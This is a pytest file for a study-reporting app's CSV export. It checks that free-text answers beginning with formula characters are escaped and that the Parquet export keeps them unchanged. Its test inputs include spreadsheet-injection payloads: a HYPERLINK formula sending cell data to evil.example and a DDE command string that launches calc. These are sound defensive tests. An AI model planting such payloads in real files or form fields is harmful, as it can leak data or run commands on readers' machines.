"""CSV exports are safe to open in a spreadsheet; the Parquet export keeps every value as given."""

from __future__ import annotations

import csv
import importlib.util

import pandas as pd
import pytest

from studies.models import BackgroundQuestion, MetricValue, Participant
from studies.reports import ReportOptions
from studies.reports.csvsafe import escape_formula_cells
from studies.reports.database import build_study_report

from .test_report_db import _make_study

# Free-text answers a participant could type; each starts with a character that makes a
# spreadsheet run the cell as a formula.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]


# Object columns and pandas' "string" dtype, with Python and (where installed) Arrow storage.
STRING_DTYPES = [
    "object", "string",
    pytest.param("string[pyarrow]", marks=pytest.mark.skipif(
        importlib.util.find_spec("pyarrow") is None, reason="pyarrow is not installed")),
]


class TestEscapeFormulaCells:
    def test_escapes_text_cells_and_leaves_numbers(self):
        frame = pd.DataFrame({"text": [*HOSTILE, "fine", None], "number": [-1.5] * 7 + [2.0],
                              "typed": pd.array([*HOSTILE, "fine", None], dtype="string")})
        out = escape_formula_cells(frame)
        for column in ("text", "typed"):
            assert out[column].iloc[:6].tolist() == ["'" + v for v in HOSTILE]
            assert out[column].iloc[6] == "fine" and pd.isna(out[column].iloc[7])
        assert out["number"].tolist() == frame["number"].tolist()
        assert frame["text"].iloc[0] == HOSTILE[0], "the input frame is not modified"

    @pytest.mark.parametrize("dtype", STRING_DTYPES)
    def test_every_text_dtype_keeps_its_dtype(self, dtype):
        frame = pd.DataFrame({"text": pd.array([*HOSTILE, "fine", None], dtype=dtype)})
        out = escape_formula_cells(frame)
        assert out["text"].dtype == frame["text"].dtype
        assert out["text"].iloc[:6].tolist() == ["'" + v for v in HOSTILE]
        assert out["text"].iloc[6] == "fine" and pd.isna(out["text"].iloc[7])

    @pytest.mark.parametrize("dtype", STRING_DTYPES)
    def test_empty_and_harmless_columns(self, dtype):
        """A study without responses exports empty text columns (pandas' "string" dtype made
        ``any()`` of the mask raise TypeError); a column with nothing to escape stays as is."""
        empty = pd.DataFrame({"text": pd.array([], dtype=dtype), "number": pd.array([], dtype=float)})
        out = escape_formula_cells(empty)
        assert out.empty and out.dtypes.tolist() == empty.dtypes.tolist()
        harmless = pd.DataFrame({"text": pd.array(["fine", None], dtype=dtype)})
        assert escape_formula_cells(harmless).equals(harmless)

    def test_empty_frame_without_columns(self):
        assert escape_formula_cells(pd.DataFrame()).empty

    def test_object_column_of_mixed_values(self):
        frame = pd.DataFrame({"mixed": ["=1", 3, float("nan"), None, "-x"]})
        assert escape_formula_cells(frame)["mixed"].tolist()[:2] == ["'=1", 3]
        assert pd.isna(escape_formula_cells(frame)["mixed"].iloc[2])
        assert escape_formula_cells(frame)["mixed"].tolist()[3:] == [None, "'-x"]


@pytest.mark.django_db
def test_report_csv_escapes_free_text_and_parquet_keeps_it(tmp_path):
    study = _make_study()
    BackgroundQuestion.objects.create(study=study, key="country_grew_up", kind="text", texts={"en": "?"})
    participants = list(Participant.objects.filter(study=study, status="completed").order_by("pk"))
    for participant, answer in zip(participants, HOSTILE):
        participant.background = {**participant.background, "country_grew_up": answer}
        participant.save(update_fields=["background"])
    MetricValue.objects.filter(candidate__study=study).update(value=-0.25)
    build_study_report(study.pk, tmp_path, options=ReportOptions(n_resamples=20))

    with open(tmp_path / "responses.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    answers = {row["bg__country_grew_up"] for row in rows} - {""}
    assert answers == {"'" + v for v in HOSTILE}
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # only numbers may start with a minus sign
    assert {row["metric__quality"] for row in rows} - {""} == {"-0.25"}
    raw = pd.read_parquet(tmp_path / "responses.parquet")
    assert set(raw["bg__country_grew_up"].dropna()) == set(HOSTILE)
